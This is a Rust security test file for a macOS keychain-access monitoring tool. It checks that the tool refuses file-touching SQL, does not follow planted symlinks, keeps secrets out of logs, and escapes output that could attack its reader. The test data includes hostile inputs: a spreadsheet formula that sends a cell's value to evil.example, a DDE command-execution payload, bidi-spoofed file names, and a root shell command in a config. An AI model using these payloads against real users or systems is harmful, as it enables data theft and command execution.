//! The binary run the way an attacker on the same Mac would try to turn it:
//! SQL that touches files, planted symlinks for state and output, secrets
//! in trace logs, rows left on disk after a signal, and output that attacks
//! its reader (CSV formulas, bidirectional text). Every test drives the real
//! `keychain-access` and checks the file system or its output afterwards.

#[path = "support/common.rs"]
mod common;
#[path = "../sentinel/tests/common/mod.rs"]
mod mock;

use common::{bin, ext_bin, repo};
use serde_json::{json, Value};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

static COUNTER: AtomicUsize = AtomicUsize::new(0);

/// A private folder (0700, ours): not sticky, so Linux's
/// `fs.protected_symlinks` (which only guards sticky world-writable
/// folders such as /tmp) cannot hide a symlink that we follow.
fn private_dir(name: &str) -> PathBuf {
    let n = COUNTER.fetch_add(1, Ordering::SeqCst);
    let d = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("security-{name}-{}-{n}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
    d
}

fn fixture(name: &str) -> PathBuf {
    repo().join("tests/fixtures").join(name)
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn entries(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

fn query(input: &Path, sql: &str) -> Output {
    Command::new(bin())
        .args(["query", "--input"])
        .arg(input)
        .arg(sql)
        .output()
        .unwrap()
}

#[test]
fn query_refuses_sql_that_writes_or_touches_files() {
    let dir = private_dir("sql");
    let input = fixture("art_t1555_001_1_dump_keychain.ndjson");
    let target = dir.join("copy.db");
    let t = target.display();
    for (sql, says) in [
        (format!("ATTACH DATABASE '{t}' AS x"), "ATTACH"),
        (format!("VACUUM INTO '{t}'"), "VACUUM"),
        ("DELETE FROM keychain_access_events".to_string(), "DELETE"),
        (
            "INSERT INTO keychain_access_events (eid) VALUES ('x')".to_string(),
            "INSERT",
        ),
        (
            "UPDATE keychain_access_events SET severity = 'low'".to_string(),
            "UPDATE",
        ),
        ("DROP TABLE keychain_access_events".to_string(), "DROP"),
        ("PRAGMA journal_mode = WAL".to_string(), "journal_mode"),
        (
            format!("PRAGMA temp_store_directory = '{}'", dir.display()),
            "PRAGMA",
        ),
    ] {
        let out = query(&input, &sql);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{sql}: {err}");
        assert!(
            err.contains("SQL refused") && err.contains(says),
            "{sql}: {err}"
        );
        assert!(out.stdout.is_empty(), "{sql}");
        assert!(
            entries(&dir).is_empty(),
            "{sql} created {:?}",
            entries(&dir)
        );
    }
    // Reading still works, including the pragmas osquery allows.
    for sql in [
        "SELECT count(*) AS n FROM keychain_access_events",
        "PRAGMA table_info(keychain_access_events)",
    ] {
        let out = query(&input, sql);
        assert!(out.status.success(), "{sql}: {}", text(&out.stderr));
        assert!(!out.stdout.is_empty());
    }
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn pack_run_and_pack_check_agree_on_refused_sql() {
    let dir = private_dir("packsql");
    let target = dir.join("rows.db");
    let pack = dir.join("evil.json");
    std::fs::write(
        &pack,
        json!({"queries": {
            "copy_out": {"query": format!("VACUUM INTO '{}'", target.display()), "interval": 60},
            "attach": {"query": format!("ATTACH DATABASE '{}' AS x", target.display()), "interval": 60}
        }})
        .to_string(),
    )
    .unwrap();
    let run = Command::new(bin())
        .args(["pack", "run", "--input"])
        .arg(fixture("art_t1555_001_1_dump_keychain.ndjson"))
        .arg(&pack)
        .output()
        .unwrap();
    let err = text(&run.stderr);
    assert_eq!(run.status.code(), Some(1), "{err}");
    assert_eq!(err.matches("SQL refused").count(), 2, "{err}");
    let check = Command::new(bin())
        .args(["pack", "check"])
        .arg(&pack)
        .output()
        .unwrap();
    let cerr = text(&check.stderr) + &text(&check.stdout);
    assert!(!check.status.success(), "{cerr}");
    assert!(
        cerr.contains("VACUUM") && cerr.contains("ATTACH"),
        "pack check names both: {cerr}"
    );
    assert_eq!(entries(&dir), ["evil.json"], "no file created");
    std::fs::remove_dir_all(dir).unwrap();
}

/// A `forward` config whose queue is `queue_path`, for the loopback mock.
fn forward_config(m: &mock::Mock, dir: &Path, queue_path: &Path) -> PathBuf {
    let mut section = mock::section(m, dir, json!({}));
    section["queue_path"] = json!(queue_path);
    let cfg = dir.join("forward.json");
    std::fs::write(&cfg, json!({ "sentinel": section }).to_string()).unwrap();
    cfg
}

fn forward(cfg: &Path, results: &Path) -> Output {
    let mut child = Command::new(bin())
        .args(["forward", "--results"])
        .arg(results)
        .arg("--config")
        .arg(cfg)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // A refused queue ends the run at once; give a wrongly accepted one a
    // moment, then stop it.
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    if child.try_wait().unwrap().is_none() {
        sigterm(child.id());
    }
    child.wait_with_output().unwrap()
}

fn sigterm(pid: u32) {
    assert!(Command::new("kill")
        .args(["-TERM", &pid.to_string()])
        .status()
        .unwrap()
        .success());
}

#[test]
fn forward_never_follows_a_planted_queue_or_lock_symlink() {
    let m = mock::Mock::start();
    let dir = private_dir("qlink");
    let victim = dir.join("victim");
    std::fs::write(&victim, "important").unwrap();
    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
    let results = dir.join("results.log");
    std::fs::write(&results, "").unwrap();
    // The queue itself, then (queue absent) its lock file, planted as links.
    for (queue, link) in [
        (dir.join("queue.db"), dir.join("queue.db")),
        (dir.join("q2.db"), dir.join("q2.db.lock")),
    ] {
        std::os::unix::fs::symlink(&victim, &link).unwrap();
        let cfg = forward_config(&m, &dir, &queue);
        let out = forward(&cfg, &results);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{err}");
        assert!(err.contains("symbolic link"), "{err}");
        let meta = std::fs::metadata(&victim).unwrap();
        assert_eq!(meta.mode() & 0o777, 0o644, "victim not chmodded: {err}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "important");
        assert!(
            std::fs::symlink_metadata(&link)
                .unwrap()
                .file_type()
                .is_symlink(),
            "the link is left as it was"
        );
    }
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn forward_refuses_state_in_a_shared_folder() {
    let m = mock::Mock::start();
    let dir = private_dir("qshared");
    let shared = dir.join("shared");
    std::fs::create_dir(&shared).unwrap();
    // World-writable and not sticky.
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
    let results = dir.join("results.log");
    std::fs::write(&results, "").unwrap();
    let cfg = forward_config(&m, &dir, &shared.join("queue.db"));
    let out = forward(&cfg, &results);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("writable by group or others"), "{err}");
    assert!(
        entries(&shared).is_empty(),
        "created {:?}",
        entries(&shared)
    );
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn pack_export_replaces_a_planted_symlink_instead_of_writing_through_it() {
    let dir = private_dir("export");
    let pack = repo().join("packs/keychain-access.conf");
    let first = dir.join("first");
    let out = Command::new(bin())
        .args(["pack", "export", "--out"])
        .arg(&first)
        .arg(&pack)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let written: Vec<PathBuf> = text(&out.stdout).lines().map(PathBuf::from).collect();
    assert!(!written.is_empty());
    // Plant a link at every name the export writes, pointing at a victim.
    let second = dir.join("second");
    let victim = dir.join("victim");
    std::fs::write(&victim, "important").unwrap();
    for p in &written {
        let rel = p.strip_prefix(&first).unwrap();
        let link = second.join(rel);
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&victim, &link).unwrap();
    }
    let out = Command::new(bin())
        .args(["pack", "export", "--out"])
        .arg(&second)
        .arg(&pack)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "important");
    for p in &written {
        let rel = p.strip_prefix(&first).unwrap();
        let now = second.join(rel);
        let meta = std::fs::symlink_metadata(&now).unwrap();
        assert!(
            meta.file_type().is_file(),
            "{} is a regular file",
            now.display()
        );
        assert_eq!(
            std::fs::read(&now).unwrap(),
            std::fs::read(p).unwrap(),
            "{}",
            now.display()
        );
    }
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn scan_leaves_no_spool_behind_after_sigterm() {
    let dir = private_dir("spool");
    let tmp = dir.join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o700)).unwrap();
    let mut child = Command::new(bin())
        .args(["scan", "--format", "jsonl", "--input", "-"])
        .env("TMPDIR", &tmp)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Rows reach the spool; stdin stays open, so the scan is mid-way.
    {
        use std::io::Write;
        let stdin = child.stdin.as_mut().unwrap();
        let capture = std::fs::read(fixture("art_t1555_001_1_dump_keychain.ndjson")).unwrap();
        stdin.write_all(&capture).unwrap();
        stdin.flush().unwrap();
    }
    std::thread::sleep(Duration::from_millis(500));
    assert!(child.try_wait().unwrap().is_none(), "still scanning");
    sigterm(child.id());
    let out = child.wait_with_output().unwrap();
    assert!(!out.status.success());
    assert!(
        entries(&tmp).is_empty(),
        "left behind in TMPDIR: {:?}",
        entries(&tmp)
    );
    // And a complete run gives the rows (read back through the handle).
    let out = Command::new(bin())
        .args(["scan", "--format", "jsonl", "--input"])
        .arg(fixture("art_t1555_001_1_dump_keychain.ndjson"))
        .env("TMPDIR", &tmp)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("dump_keychain"));
    assert!(entries(&tmp).is_empty());
    std::fs::remove_dir_all(dir).unwrap();
}

/// The dump-keychain capture with its keychain argument replaced by `arg`
/// (JSON string contents) and the working directory by `cwd`.
fn capture_with(dir: &Path, name: &str, arg: &str, cwd: &str) -> PathBuf {
    let src = std::fs::read_to_string(fixture("art_t1555_001_1_dump_keychain.ndjson")).unwrap();
    assert!(src.contains("\"login.keychain\""));
    let p = dir.join(name);
    std::fs::write(
        &p,
        src.replace("\"login.keychain\"", &format!("\"{arg}\""))
            .replace("\"\\/Users\\/alice\"", &format!("\"{cwd}\"")),
    )
    .unwrap();
    p
}

#[test]
fn output_cannot_attack_its_reader() {
    let dir = private_dir("output");
    // A formula as the keychain argument; RLO (U+202E) and a zero-width
    // space in the working directory, as JSON escapes (eslogger's form).
    let formula = r#"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"#;
    let input = capture_with(
        &dir,
        "evil.ndjson",
        formula,
        r"\/Users\/invoice\u202egpj.app\u200b",
    );

    // Stored values stay faithful: SQL sees the real characters.
    let out = query(
        &input,
        "SELECT count(*) AS n FROM keychain_access_events \
         WHERE cwd LIKE '%' || char(8238) || '%' AND target_path LIKE '=HYPERLINK(%'",
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains('1'), "{}", text(&out.stdout));

    let rlo = '\u{202e}';
    let zwsp = '\u{200b}';
    let scan = |format: &str| {
        let out = Command::new(bin())
            .args(["scan", "--all-columns", "--format", format, "--input"])
            .arg(&input)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out.stderr));
        text(&out.stdout)
    };
    for format in ["csv", "table"] {
        let o = scan(format);
        assert!(
            !o.contains(rlo) && !o.contains(zwsp),
            "{format}: raw bidi/zero-width"
        );
        assert!(
            o.contains(r"invoice\u{202e}gpj.app\u{200b}"),
            "{format}: {o}"
        );
    }
    // jsonl: what a JSON consumer decodes is the visible escape.
    let jsonl = scan("jsonl");
    assert!(!jsonl.contains(rlo) && !jsonl.contains(zwsp));
    for line in jsonl.lines() {
        let v: Value = serde_json::from_str(line).unwrap();
        assert_eq!(v["cwd"], r"/Users/invoice\u{202e}gpj.app\u{200b}");
    }
    // CSV: the formula cell starts with an apostrophe, so it stays text.
    let csv = scan("csv");
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#),
        "{csv}"
    );
    assert!(!csv.contains(",=") && !csv.contains(",\"="), "{csv}");
    // query --format csv: @ and + cells from SQL, and a negative number.
    let out = Command::new(bin())
        .args(["query", "--format", "csv", "--input"])
        .arg(&input)
        .arg("SELECT '@SUM(1+1)*cmd|''/C calc''!A0' AS a, '+1' AS b, -5 AS c, char(8238) AS d")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let o = text(&out.stdout);
    assert_eq!(
        o.lines().nth(1).unwrap(),
        r"'@SUM(1+1)*cmd|'/C calc'!A0,'+1,-5,\u{202e}",
        "{o}"
    );

    // pack run: result lines escape too.
    let pack = dir.join("p.json");
    std::fs::write(
        &pack,
        json!({"queries": {"q": {"query": "SELECT cwd FROM keychain_access_events WHERE cwd LIKE '%gpj%'", "interval": 60}}})
            .to_string(),
    )
    .unwrap();
    let out = Command::new(bin())
        .args(["pack", "run", "--input"])
        .arg(&input)
        .arg(&pack)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let o = text(&out.stdout);
    let line: Value = serde_json::from_str(o.lines().next().expect("a result line")).unwrap();
    assert_eq!(
        line["columns"]["cwd"], r"/Users/invoice\u{202e}gpj.app\u{200b}",
        "{o}"
    );
    std::fs::remove_dir_all(dir).unwrap();
}

/// Every way `s` could show up in a log: as is, hex (either case, and as
/// ureq's byte dump groups it), and any 10-character piece of it.
fn leaks(log: &str, s: &str) -> Vec<String> {
    let mut found = Vec::new();
    let hex: String = s.bytes().map(|b| format!("{b:02x}")).collect();
    let lower = log.to_lowercase();
    for form in [s.to_string(), hex.clone()] {
        if lower.contains(&form.to_lowercase()) {
            found.push(form);
        }
    }
    // ureq-proto's dump: two bytes, a space, two bytes...
    let grouped: Vec<String> = hex
        .as_bytes()
        .chunks(4)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect();
    for w in grouped.windows(3) {
        let g = w.join(" ");
        if g.len() == 14 && lower.contains(&g) {
            found.push(g);
        }
    }
    let chars: Vec<char> = s.chars().collect();
    for w in chars.windows(10) {
        let piece: String = w.iter().collect();
        if log.contains(&piece) {
            found.push(piece);
        }
    }
    found
}

#[test]
fn no_secret_or_token_in_logs_at_any_level() {
    for (name, rust_log, verbose) in [
        ("trace", Some("trace"), false),
        ("ureq-rustls", Some("ureq=trace,rustls=trace"), false),
        (
            "ureq-proto",
            Some("ureq=trace,ureq_proto=trace,rustls=trace"),
            false,
        ),
        ("verbose", None, true),
    ] {
        let m = mock::Mock::start();
        let dir = private_dir(&format!("log-{name}"));
        let results = dir.join("osqueryd.results.log");
        let lines: String = (0..5).map(|i| mock::line(i, 20) + "\n").collect();
        std::fs::write(&results, lines).unwrap();
        let cfg = forward_config(&m, &dir, &dir.join("state/queue.db"));
        let mut cmd = Command::new(bin());
        cmd.args(["forward", "--results"])
            .arg(&results)
            .arg("--config")
            .arg(&cfg)
            .env_remove("RUST_LOG")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        if let Some(l) = rust_log {
            cmd.env("RUST_LOG", l);
        }
        if verbose {
            cmd.arg("--verbose");
        }
        let child = cmd.spawn().unwrap();
        let delivered = mock::wait_until(20, || m.unique_ids() == 5);
        sigterm(child.id());
        let out = child.wait_with_output().unwrap();
        let log = text(&out.stderr) + &text(&out.stdout);
        assert!(delivered, "{name}: lines delivered: {log}");
        let tokens: Vec<String> = m.state().tokens.keys().cloned().collect();
        assert!(!tokens.is_empty(), "{name}: a token was issued");
        // The run really logged at the level asked for (no vacuous pass).
        match name {
            "verbose" => assert!(log.contains("DEBUG"), "{name}: {log}"),
            _ => assert!(
                log.contains("TRACE") && log.contains("ureq"),
                "{name}: {log}"
            ),
        }
        for s in std::iter::once(mock::SECRET.to_string()).chain(tokens) {
            let found = leaks(&log, &s);
            assert!(found.is_empty(), "{name}: {s} leaked as {found:?}");
        }
        std::fs::remove_dir_all(dir).unwrap();
    }
}

#[test]
fn config_files_others_could_write_are_refused() {
    let dir = private_dir("cfgmode");
    // The extension's config names the commands it runs as root.
    let cfg = dir.join("keychain_access.json");
    std::fs::write(
        &cfg,
        json!({"sources": {"eslogger": {"enabled": true, "command": ["/bin/sh", "-c", "id"]}}})
            .to_string(),
    )
    .unwrap();
    let socket = dir.join("no-osquery.em");
    let ext = |cfg: &Path| {
        Command::new(ext_bin())
            .arg("--socket")
            .arg(&socket)
            .args(["--timeout", "1", "--config"])
            .arg(cfg)
            .output()
            .unwrap()
    };
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = ext(&cfg);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("writable by group or others"), "{err}");
    // 0644 in a private folder: accepted (it then fails to reach osquery).
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o644)).unwrap();
    let err = text(&ext(&cfg).stderr);
    assert!(err.contains("cannot reach osquery"), "{err}");
    // forward's config too (it says where the queue is and which secret to send).
    let m = mock::Mock::start();
    let fcfg = forward_config(&m, &dir, &dir.join("state/q.db"));
    std::fs::set_permissions(&fcfg, std::fs::Permissions::from_mode(0o666)).unwrap();
    let results = dir.join("results.log");
    std::fs::write(&results, "").unwrap();
    let out = forward(&fcfg, &results);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("writable by group or others"), "{err}");
    assert!(!dir.join("state").exists(), "no queue created");
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn sentinel_records_carry_bidi_and_zero_width_as_visible_escapes() {
    let m = mock::Mock::start();
    let dir = private_dir("records");
    let results = dir.join("osqueryd.results.log");
    // As osquery writes it: JSON \u escapes of RLO and ZWSP.
    let line = r#"{"name":"pack_keychain-access_keychain_credential_access","hostIdentifier":"mac-1","unixTime":1795900000,"action":"added","columns":{"eid":"e0","target_path":"invoice\u202egpj.app\u200b"}}"#;
    std::fs::write(&results, format!("{line}\n")).unwrap();
    let cfg = forward_config(&m, &dir, &dir.join("state/queue.db"));
    let child = Command::new(bin())
        .args(["forward", "--results"])
        .arg(&results)
        .arg("--config")
        .arg(&cfg)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let delivered = mock::wait_until(20, || m.unique_ids() == 1);
    sigterm(child.id());
    let out = child.wait_with_output().unwrap();
    assert!(delivered, "{}", text(&out.stderr));
    let got = m.state().received[0]["columns"]["target_path"].clone();
    assert_eq!(got, r"invoice\u{202e}gpj.app\u{200b}");
    std::fs::remove_dir_all(dir).unwrap();
}
